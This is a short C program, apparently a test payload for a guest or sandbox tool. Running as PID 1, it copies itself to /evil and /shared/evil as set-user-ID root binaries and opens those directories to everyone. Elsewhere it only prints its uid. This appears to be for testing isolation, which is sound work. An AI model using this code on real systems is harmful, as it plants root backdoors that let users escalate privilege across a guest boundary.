/*
 * Leaves programs with the set-user-ID bit behind: as PID 1 of a guest it makes copies of itself that belong to root, `/evil` and, where the
 * directory is there, `/shared/evil`, opens both directories to everybody, and is ready. Anywhere else it says as whom it runs.
 *
 * measured: no, it is a single act
 */
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <fcntl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

static void leave(const char *path) {
  char block[1 << 16];
  int own = open("/proc/self/exe", O_RDONLY), copy = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0755);
  if (own == -1 || copy == -1) return;
  for (ssize_t count; (count = read(own, block, sizeof block)) > 0;) {
    if (write(copy, block, (size_t)count) != count) return;
  }
  fchmod(copy, 04755);
  close(copy);
}

int main(void) {
  if (getpid() != 1) return printf("uid %u\n", geteuid()) < 0;
  leave("/evil");
  leave("/shared/evil");
  chmod("/", 0755);
  chmod("/shared", 0755);
  struct sockaddr_un address = {.sun_family = AF_UNIX};
  const char *path = getenv("NOTIFY_SOCKET");
  if (path) strncpy(address.sun_path, path, sizeof address.sun_path - 1);
  int socket_ = socket(AF_UNIX, SOCK_DGRAM, 0);
  sendto(socket_, "READY=1", 7, 0, (struct sockaddr *)&address, sizeof address);
  for (;;) pause();
}
